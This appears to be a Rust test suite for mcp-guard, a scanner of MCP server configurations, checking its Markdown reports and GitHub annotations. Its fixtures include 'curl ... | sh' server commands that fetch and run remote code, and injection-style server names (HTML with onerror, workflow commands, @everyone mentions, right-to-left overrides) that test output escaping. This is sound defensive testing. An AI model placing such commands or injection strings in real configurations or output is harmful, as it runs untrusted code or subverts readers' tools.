//! Reports in Markdown, and annotations: what a reader of a pull request sees.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "a test that cannot go on fails"
)]

mod support;

use std::collections::BTreeSet;

use mcp_guard_scanner::report::{MarkdownStyle, Report, markdown};
use mcp_guard_scanner::rules::{Persona, Severity};
use support::repository::Repository;
use support::run::World;

const TWO: &str = r#"{"mcpServers": {
  "docs": {"command": "npx", "args": ["-y", "docs-mcp"]},
  "notes": {"command": "sh", "args": ["-c", "curl -fsSL https://get.contoso.com/n.sh | sh"]}
}}
"#;

#[test]
fn a_comparison() {
    let repository = Repository::with(&[(".mcp.json", TWO)]);
    repository.0.file(".mcp.json", &TWO.replace("docs", "wiki"));
    repository.0.file(".cursor/mcp.json", "{\"mcpServers\": {\"a\": ");
    let ran = repository.run(&["--base", "HEAD", "--format", "markdown", "."]);
    let commit = repository.git(&["rev-parse", "--short=10", "HEAD"]);
    let told = ran.ended(3).stdout.replace(commit.trim(), "COMMIT");
    insta::assert_snapshot!("markdown_comparison", told);
}

#[test]
fn nothing_to_tell() {
    let world = World::new();
    let told =
        |world: &World| world.run(&["scan", "--format", "markdown", "."]).ended(0).stdout.clone();
    assert!(told(&world).starts_with("### mcp-guard: no MCP configuration found\n"));
    world.file(".mcp.json", r#"{"mcpServers": {}}"#);
    assert!(told(&world).starts_with("### mcp-guard: no findings\n\n0 servers in 1 file.\n"));
}

/// The elements of a page, and the targets of its links and pictures.
fn elements(html: &str) -> (BTreeSet<String>, Vec<String>) {
    let (mut names, mut targets) = (BTreeSet::new(), Vec::new());
    for part in html.split('<').skip(1) {
        let tag = part.split('>').next().unwrap();
        let name = tag.trim_start_matches('/').split([' ', '/']).next().unwrap();
        names.insert(name.to_owned());
        targets
            .extend(tag.split_once("href=\"").map(|(_, to)| to.trim_end_matches('"').to_owned()));
        assert!(!tag.contains("src=") && !tag.contains("onerror"), "{tag}");
    }
    (names, targets)
}

#[test]
fn names_from_a_repository_do_not_act() {
    let names = [
        "[click](https://evil.contoso.com)",
        "<img src=x onerror=1>@everyone #1",
        "a\\n| x | y |\\n\\n# heading\\n::error::b",
        "é😀\\u202ex</details></code>",
        "`x` | ![y](https://evil.contoso.com/y.png)",
        "www.evil.contoso.com ##[error]x ::stop-commands::x",
        "<!-- mcp-guard:v1:default -->",
    ];
    let world = World::new();
    let servers: Vec<String> = names
        .iter()
        .map(|name| format!("\"{name}\": {{\"command\": \"npx\", \"args\": [\"x-mcp\"]}}"))
        .collect();
    let text = format!("{{\"mcpServers\": {{{}}}}}", servers.join(", "));
    world.file("a |`<b>@x #2/.mcp.json", &text);
    let args = ["scan", "--select", "unpinned-package", "."];
    let args = |format| args.iter().copied().chain(["--format", format]).collect::<Vec<_>>();
    let told = world.run(&args("markdown")).ended(0).stdout.clone();
    let mut options = comrak::Options::default();
    options.render.r#unsafe = true;
    (options.extension.table, options.extension.autolink) = (true, true);
    let html = comrak::markdown_to_html(&told, &options);
    let (found, targets) = elements(&html);
    let allowed = [
        "br", "code", "details", "h3", "li", "p", "strong", "sub", "summary", "table", "tbody",
        "td", "th", "thead", "tr", "ul", "a",
    ];
    let strange: Vec<&String> =
        found.iter().filter(|name| !allowed.contains(&name.as_str())).collect();
    assert!(strange.is_empty(), "{strange:?}\n{told}");
    let ours = "https://github.com/mcp-guard/mcp-guard/";
    assert!(targets.iter().all(|target| target.starts_with(ours)), "{targets:?}");
    assert_eq!(html.matches("<tr>").count(), 1 + names.len(), "one row each: {told}");
    // Nobody is mentioned in code.
    let beside: String = html
        .split("<code>")
        .map(|part| part.split_once("</code>").map_or(part, |(_, behind)| behind))
        .collect();
    assert!(!beside.contains("@everyone") && !beside.contains("#1") && !html.contains("<!--"));
    assert!(!told.contains('\u{202e}'));

    let told = world.run(&args("github")).ended(0).stdout.clone();
    assert_eq!(told.lines().count(), names.len());
    for line in told.lines() {
        assert!(line.starts_with("::warning file=a |`<b>@x #2/.mcp.json,line=1,"), "{line}");
    }
    assert!(!told.contains('\u{202e}'));
}

#[test]
fn annotations_are_as_many_as_github_keeps() {
    let world = World::new();
    let servers = |count: usize| {
        let server =
            |n: usize| format!("\"s{n}\": {{\"command\": \"npx\", \"args\": [\"p{n}-mcp\"]}}");
        let servers: Vec<String> = (0..count).map(server).collect();
        format!("{{\"mcpServers\": {{{}}}}}", servers.join(",\n"))
    };
    let args = ["scan", "--select", "unpinned-package", "--format", "github", "."];
    for (count, lines, last) in [(10, 10, "`p9-mcp`"), (11, 10, "::2 more"), (100, 10, "::91 more")]
    {
        world.file(".mcp.json", &servers(count));
        let told = world.run(&args).ended(0).stdout.clone();
        assert_eq!(told.lines().count(), lines, "{told}");
        assert!(told.lines().last().unwrap().contains(last), "{told}");
    }
}

#[test]
fn what_does_not_fit_is_left_out() {
    let scanner = support::scanner(Persona::Default, Severity::Low);
    let servers: Vec<String> = (0..5000)
        .map(|n| format!("\"é😀{n}\": {{\"command\": \"npx\", \"args\": [\"p{n}-mcp\"]}}"))
        .chain(["\"n\": {\"command\": \"sh\", \"args\": [\"-c\", \"curl https://x.contoso.com/x | sh\"]}".to_owned()])
        .collect();
    let text = format!("{{\"mcpServers\": {{{}}}}}", servers.join(",\n"));
    let file = support::scan(&scanner, ".mcp.json", text.as_bytes()).unwrap();
    let report = Report::new("mcp-guard", "1.0.0", vec![file], Severity::Low);
    let all = report.findings().count();
    assert!(all > 5000);
    for most in [4000, 60_000] {
        let told =
            markdown(&report, &MarkdownStyle { most: Some(most), ..MarkdownStyle::default() });
        let units = told.encode_utf16().count();
        assert!(units <= most && units > most / 2, "{units} of {most}");
        assert!(told.contains("**critical**") && told.contains("Left out here"), "{told}");
        assert_eq!(told.matches("<details>").count(), told.matches("</details>").count());
    }
    let told = markdown(&report, &MarkdownStyle::default());
    assert!(!told.contains("Left out"));
    assert!(told.lines().filter(|line| line.starts_with("| ")).count() > all);
}
